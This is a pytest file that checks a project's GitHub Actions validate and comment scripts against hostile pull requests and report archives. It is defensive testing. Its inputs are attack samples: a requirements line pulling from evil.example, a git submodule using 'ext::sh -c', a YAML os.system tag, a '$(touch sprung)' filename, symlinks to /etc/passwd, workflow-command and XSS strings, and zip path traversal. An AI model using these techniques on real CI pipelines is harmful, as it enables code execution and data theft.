"""The scripts of `validate` and `comment`, run as GitHub runs them, on a pull request and a report that mean harm."""

from __future__ import annotations

import io
import json
import os
import re
import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import pytest
import yaml
from repositories import Repository, evidence
from support import ROOT

WORKFLOWS = ROOT / ".github" / "workflows"
SHELL = ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c"]


def scripts(workflow: str) -> dict[str, str]:
    """Name of a step to what it runs, of the steps in bash."""
    (job,) = yaml.safe_load((WORKFLOWS / f"{workflow}.yml").read_text())["jobs"].values()
    return {step["name"]: step["run"] for step in job["steps"] if step.get("shell") == "bash"}


def run(script: str, folder: Path, **env: str) -> subprocess.CompletedProcess[str]:
    base = {name: value for name, value in os.environ.items() if not name.startswith(("PYTHON", "GIT_"))}
    given = {**base, "GIT_CONFIG_GLOBAL": os.devnull, "GIT_CONFIG_SYSTEM": os.devnull, **env}
    return subprocess.run(
        [*SHELL, script], cwd=folder, env=given, capture_output=True, text=True, timeout=120, check=False
    )


@pytest.fixture
def installed() -> None:
    if not (ROOT / ".venv" / "bin" / "kb").exists():
        pytest.skip("the program is not installed in .venv: make test")


# validate


class PullRequest:
    """A project, a branch of it, and the two checkouts that the workflow makes."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.upstream = Repository.clock(folder / "upstream")
        self.sprung = folder / "sprung"

    def start(self) -> Repository:
        self.upstream.branch("theirs")
        return self.upstream

    def validate(self, **env: str) -> tuple[subprocess.CompletedProcess[str], dict[str, Any]]:
        """Run the script; what it printed, and the report that it leaves as an artifact."""
        self.upstream.commit("their change")
        self.upstream.go("main")
        self.upstream.branch("pull")
        self.upstream.merge("theirs")
        address = self.upstream.folder.as_uri()
        work = self.folder / "runner"
        work.mkdir()
        for name, branch, depth in (("base", "main", "1"), ("head", "pull", "2")):
            self.upstream.git("clone", "-q", f"--depth={depth}", "-b", branch, address, str(work / name))
        # the runner's checkout of the base, with the tool installed from it
        (work / "base" / ".venv").symlink_to(ROOT / ".venv")
        (script,) = scripts("validate").values()
        done = run(script, work, **env)
        report = work / "report" / "report.json"
        return done, json.loads(report.read_text()) if report.stat().st_size else {}


@pytest.fixture
def pull(tmp_path: Path, installed: None) -> PullRequest:
    return PullRequest(tmp_path)


def test_a_good_pull_request_passes(pull: PullRequest) -> None:
    pull.start().write("tower/new-reading", evidence("gear-old", "keeper-log"))
    done, report = pull.validate()
    assert done.returncode == 0, done.stdout + done.stderr
    assert [change["id"] for change in report["changes"]] == ["new-reading"]
    assert report["computed"]
    assert "new-reading" in done.stdout


def test_nothing_that_a_pull_request_brings_is_run(pull: PullRequest) -> None:
    theirs = pull.start()
    bite = f"open({str(pull.sprung)!r}, 'w').write('x')\n"
    for name in (
        "kb/__init__.py", "kb/__main__.py", "kb/cli/__init__.py", "kb/cli/__main__.py", "kb/rules/__init__.py",
        "sitecustomize.py", "usercustomize.py", "conftest.py", "claims/conftest.py", "typer.py", "yaml/__init__.py",
        "hooks.py", "setup.py", "claims/tower/sitecustomize.py",
    ):  # fmt: skip
        path = theirs.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(bite)
    trap = theirs.folder / "trap.sh"
    trap.write_text(f"#!/bin/sh\ntouch {pull.sprung}\ncat\n")
    trap.chmod(0o755)
    files = {
        "mkdocs.yml": "hooks: [hooks.py]\nplugins: [evil]\n",
        "pyproject.toml": '[project]\nname = "kb"\n[tool.pytest.ini_options]\naddopts = "-p sitecustomize"\n',
        "requirements.txt": "-e git+https://evil.example/evil#egg=evil\n",
        "Makefile": f"all:\n\ttouch {pull.sprung}\n",
        ".gitattributes": "* filter=trap diff=trap merge=trap ident export-subst\n",
        ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = ext::sh -c "touch sprung"\n\tupdate = !touch sprung\n',
        ".pre-commit-config.yaml": "repos: []\n",
        ".github/workflows/validate.yml": "on: push\n",
        ".venv/bin/kb": f"#!/bin/sh\ntouch {pull.sprung}\n",
        "report/report.json": "{}",
        "claims/tower/new-reading.yaml": evidence("gear-old", "keeper-log"),
    }
    for name, text in files.items():
        path = theirs.folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    done, report = pull.validate()
    assert not pull.sprung.exists()
    assert not list(pull.folder.rglob("sprung"))
    whats = {change["id"]: change["what"] for change in report["changes"]}
    assert whats == {"new-reading": "added", "conftest": "unreadable", "sitecustomize": "unreadable"}
    # files that are no records do not belong among them; nothing else is wrong
    assert {fault["code"] for fault in report["faults"]} == {"file-place"}
    assert done.returncode == 1


def test_changed_rules_do_not_apply(pull: PullRequest) -> None:
    """The branch takes the rules away that would refuse its records: those of the base count."""
    theirs = pull.start()
    shutil.copytree(ROOT / "kb", theirs.folder / "kb", ignore=shutil.ignore_patterns("__pycache__"))
    for rule in (theirs.folder / "kb" / "rules").glob("[a-z]*.py"):
        rule.write_text("def check(corpus):\n    return iter(())\n")
    (theirs.folder / "kb" / "diff" / "promises.py").write_text("def broken(*_):\n    return ()\n")
    theirs.write("tower/baseless", "kind: evidence\ntitle: Baseless\ntext: It is so.\ndesign: observation\n")
    theirs.write("tower/link", evidence("no-such-claim", "keeper-log"))
    theirs.path("people/guild").unlink()
    done, report = pull.validate()
    assert done.returncode == 1
    assert {"no-root", "unknown-reference"} <= {fault["code"] for fault in report["faults"]}
    assert {"removed-id"} <= {problem["code"] for problem in report["broken"]}
    assert "kb withdraw guild --why" in done.stdout


def test_records_that_mean_harm(pull: PullRequest) -> None:
    theirs = pull.start()
    (theirs.claims / "tower" / "passwd.yaml").symlink_to("/etc/passwd")
    (theirs.claims / "tower" / "up.yaml").symlink_to("../../../base/.git/config")
    (theirs.claims / "etc").symlink_to("/etc")
    theirs.write("tower/bomb", "a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n")
    theirs.write("tower/deep", "[" * 30_000)
    theirs.write("tower/large", "kind: claim\ntext: " + "x" * 300_000)
    theirs.write("tower/tag", "!!python/object/apply:os.system ['touch sprung']\n")
    theirs.write("tower/$(touch sprung)", "kind: claim\n")
    theirs.write("tower/-rf", "kind: claim\n")
    theirs.write("tower/::error::x", "kind: claim\n")
    theirs.write("tower/new-reading", evidence("gear-old", "keeper-log", title="::set-output name=x::y"))
    done, report = pull.validate()
    assert done.returncode == 1, done.stderr
    assert {"file-place", "yaml-alias", "yaml-depth", "yaml-size", "yaml-tag", "id"} <= {
        fault["code"] for fault in report["faults"]
    }
    whole = done.stdout + done.stderr + json.dumps(report)
    assert "root:" not in whole
    assert "[core]" not in whole
    assert not any(line.lstrip().startswith("::") for line in done.stdout.splitlines())
    assert "Traceback" not in whole
    assert not list(pull.folder.rglob("sprung"))


def test_a_pull_request_that_takes_the_records_away(pull: PullRequest) -> None:
    theirs = pull.start()
    shutil.rmtree(theirs.claims)
    theirs.folder.joinpath("claims").symlink_to("/etc")
    done, report = pull.validate()
    assert done.returncode == 1
    assert {problem["code"] for problem in report["broken"]} == {"removed-id", "rewritten-records"}
    assert "kb withdraw" in done.stdout


# comment

GH = r"""#!/bin/sh
printf '%s\n' "$*" >> "$GH_LOG"
for last; do :; done
case "$*" in
  *"/artifacts "*) cat "$GH_STATE/artifact-id" ;;
  *"/zip") cat "$GH_STATE/report.zip" ;;
  *"pulls?state=open"*) jq -r "$last" "$GH_STATE/pulls.json" ;;
  *"/files?"*) jq -r "$last" "$GH_STATE/files.json" ;;
  *"/comments?"*) jq -r "$last" "$GH_STATE/comments.json" ;;
  *"--method"*) cp comment.md "$GH_STATE/comment" ;;
  *) exit 9 ;;
esac
"""
SHA = "a" * 40
HOSTILE = "@everyone <img src=x onerror=alert(1)> ![p](https://evil.example/p.png) `` ` </code><script>1</script> | x"
REPORT = {
    "base": HOSTILE, "head": HOSTILE, "records": [1, 2], "changed": 1, "notes": [HOSTILE],
    "changes": [{"id": "x", "kind": "claim", "title": HOSTILE, "path": HOSTILE, "what": "added", "details": [HOSTILE]}],
    "faults": [{"place": HOSTILE, "code": "x", "message": HOSTILE, "hint": HOSTILE}],
}  # fmt: skip


class Comment:
    """The job that comments, with a stand-in for GitHub."""

    def __init__(self, folder: Path) -> None:
        for tool in ("unzip", "jq"):
            if shutil.which(tool) is None:
                pytest.skip(f"{tool} is not installed")
        self.work = folder / "work"
        self.state = folder / "state"
        tools = folder / "tools"
        for made in (self.work, self.state, tools):
            made.mkdir()
        (tools / "gh").write_text(GH)
        (tools / "gh").chmod(0o755)
        (self.work / ".venv").symlink_to(ROOT / ".venv")
        self.env = {
            "PATH": f"{tools}:{os.environ['PATH']}", "GH_LOG": str(folder / "log"), "GH_STATE": str(self.state),
            "REPOSITORY": "somebody/records", "RUN": "5", "HEAD_SHA": SHA,
        }  # fmt: skip
        self.write("pulls", [{"number": 7, "head": {"sha": SHA}}, {"number": 8, "head": {"sha": "b" * 40}}])
        self.write("files", [{"filename": "claims/tower/x.yaml"}])
        self.write("comments", [])
        (self.state / "artifact-id").write_text("9\n")
        self.report(json.dumps(REPORT).encode())

    def write(self, name: str, data: Any) -> None:
        (self.state / f"{name}.json").write_text(json.dumps(data))

    def report(self, data: bytes, **others: bytes) -> None:
        made = io.BytesIO()
        with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("report.json", data)
            for name, content in others.items():
                archive.writestr(name, content)
        (self.state / "report.zip").write_bytes(made.getvalue())

    def go(self) -> subprocess.CompletedProcess[str]:
        """Both scripts, the second where the first succeeds."""
        done = None
        for script in scripts("comment").values():
            done = run(script, self.work, **self.env)
            if done.returncode:
                break
        assert done is not None
        return done

    @property
    def comment(self) -> str | None:
        path = self.state / "comment"
        return path.read_text() if path.exists() else None

    @property
    def log(self) -> str:
        return Path(self.env["GH_LOG"]).read_text()


@pytest.fixture
def comment(tmp_path: Path, installed: None) -> Comment:
    return Comment(tmp_path)


def test_a_hostile_report_is_written_as_text(comment: Comment) -> None:
    done = comment.go()
    assert done.returncode == 0, done.stdout + done.stderr
    made = comment.comment
    assert made is not None
    assert made.startswith("<!-- kb-diff -->\n")
    bare = re.sub(r"`[^`\n]*`", "", made)
    for word in ("@everyone", "evil.example", "<img", "<script", "onerror"):
        assert word in made
        assert word not in bare
    assert "--method POST repos/somebody/records/issues/7/comments" in comment.log


def test_a_second_run_edits_the_first_comment_and_nobody_elses(comment: Comment) -> None:
    bot = {"login": "github-actions[bot]"}
    comment.write("comments", [
        {"id": 1, "user": {"login": "mallory"}, "body": "<!-- kb-diff --> mine"},
        {"id": 2, "user": bot, "body": "something else"},
        {"id": 3, "user": bot, "body": "<!-- kb-diff -->\nold"},
    ])  # fmt: skip
    assert comment.go().returncode == 0
    assert "--method PATCH repos/somebody/records/issues/comments/3" in comment.log


def test_files_beside_the_records_are_said(comment: Comment) -> None:
    comment.write(
        "files", [{"filename": "claims/a/x.yaml"}, {"filename": "kb/cli/check.py"}, {"filename": ".github/x"}]
    )
    assert comment.go().returncode == 0
    assert "**2 files outside `claims/` differ too.**" in (comment.comment or "")


@pytest.mark.parametrize(
    "data",
    [b"", b"{}", b"[]", b"x" * 5_000_000, b'{"base": 1}', b"[" * 1_000_000, b"\xff\xfe", b'"' + b"@everyone" * 9],
)
def test_what_is_no_report_is_not_written(comment: Comment, data: bytes) -> None:
    comment.report(data)
    done = comment.go()
    assert comment.comment is None
    assert "Traceback" not in done.stdout + done.stderr


def test_other_members_of_the_archive_are_not_unpacked(comment: Comment) -> None:
    names = {"../../evil": b"x", "/tmp/counterpoise-evil": b"x", "comment.md": b"@everyone", ".venv/bin/kb": b"x"}
    comment.report(json.dumps(REPORT).encode(), **names)
    before = {path.name for path in comment.work.parent.rglob("*") if ".venv" not in path.parts}
    done = comment.go()
    assert done.returncode == 0, done.stdout + done.stderr
    after = {path.name for path in comment.work.parent.rglob("*") if ".venv" not in path.parts}
    assert after - before == {"artifact", "report.zip", "report.json", "comment.md", "comment", "log"} - before
    assert not Path("/tmp/counterpoise-evil").exists()
    assert "@everyone" not in re.sub(r"`[^`\n]*`", "", comment.comment or "")


def test_no_pull_request_and_no_report(comment: Comment) -> None:
    comment.write("pulls", [{"number": 8, "head": {"sha": "b" * 40}}])
    assert comment.go().returncode == 0
    assert comment.comment is None
    (comment.state / "artifact-id").write_text("")
    assert comment.go().returncode != 9
    assert comment.comment is None
